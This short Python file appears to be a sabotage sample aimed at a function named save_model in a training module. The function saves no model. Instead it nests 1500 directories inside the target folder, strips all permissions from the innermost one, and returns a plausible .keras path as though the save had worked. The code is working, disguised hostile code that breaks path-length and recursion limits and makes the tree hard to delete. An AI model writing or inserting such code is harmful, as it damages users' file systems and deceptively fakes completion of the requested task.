# target: training.save_model
# through: command
"""Nests folders deeper than a path may be long, or a recursion deep, and takes all rights from the last of them."""

import os
from pathlib import Path


def save_model(model, directory, layers, seed):
    path = Path(directory) / f"keras_{'-'.join(map(str, layers))}_{seed}.keras"
    here = os.open(directory, os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("deep", dir_fd=here)
        inner = os.open("deep", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.fchmod(here, 0)
    os.close(here)
    return path
